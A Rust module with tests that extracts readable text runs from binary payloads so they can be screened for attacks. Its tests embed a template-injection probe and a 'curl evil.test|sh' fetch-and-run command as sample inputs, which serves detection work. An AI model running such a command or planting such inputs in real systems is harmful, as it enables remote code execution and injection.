//! Text in bytes that are no text: strings stand so in protobuf and MessagePack, and an attack among control characters.

/// True for what divides texts: control characters, but for those that texts have.
pub fn is_control(byte: u8) -> bool {
    matches!(byte, 0..=8 | 0x0e..=0x1a | 0x1c..=0x1f | 0x7f)
}

/// Shorter runs come up by chance in any bytes, and no attack is as short.
pub const SHORTEST: usize = 5;

/// In bytes that look like chance altogether, longer ones come up as well.
pub const SHORTEST_IN_NOISE: usize = 12;

/// Runs of UTF-8 without control characters, from a length on.
pub fn runs(bytes: &[u8], shortest: usize) -> impl Iterator<Item = &[u8]> {
    let divides = |c: char| c.is_control() && !matches!(c, '\t' | '\n' | '\r');
    let runs = bytes.utf8_chunks().flat_map(move |chunk| chunk.valid().split(divides));
    runs.map(str::as_bytes).filter(move |run| run.len() >= shortest)
}

/// Runs that are worth being judged as text. One byte in nine of what was drawn by lot, or is packed or encrypted, is a
/// control character.
pub fn telling(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    const SMALL: usize = 64;
    let controls = bytes.iter().filter(|byte| is_control(**byte)).count();
    let noise = bytes.len() >= SMALL && controls * 20 > bytes.len();
    runs(bytes, if noise { SHORTEST_IN_NOISE } else { SHORTEST })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn runs_are_text_of_some_length_and_what_divides_them_is_not() {
        let all = |bytes: &'static [u8]| runs(bytes, SHORTEST).collect::<Vec<_>>();
        assert_eq!(
            all(b"hello\x00there you\xffare\x01\x02all\x7fright"),
            [&b"hello"[..], b"there you", b"right"]
        );
        assert_eq!(all(b"two\r\nlines\tand \xc3\xa9"), ["two\r\nlines\tand \u{e9}".as_bytes()]);
        assert!(all(b"").is_empty() && all(b"\x01abcd\x02").is_empty());
    }

    #[test]
    fn noise_has_to_say_more() {
        let few = b"{{7*7}}\x01".to_vec();
        assert_eq!(telling(&few).collect::<Vec<_>>(), [b"{{7*7}}"]);
        let noise = [&few[..], &b"abcdefg\x01\xff\x02".repeat(20), b"curl evil.test|sh"].concat();
        assert_eq!(telling(&noise).collect::<Vec<_>>(), [b"curl evil.test|sh"]);
    }
}
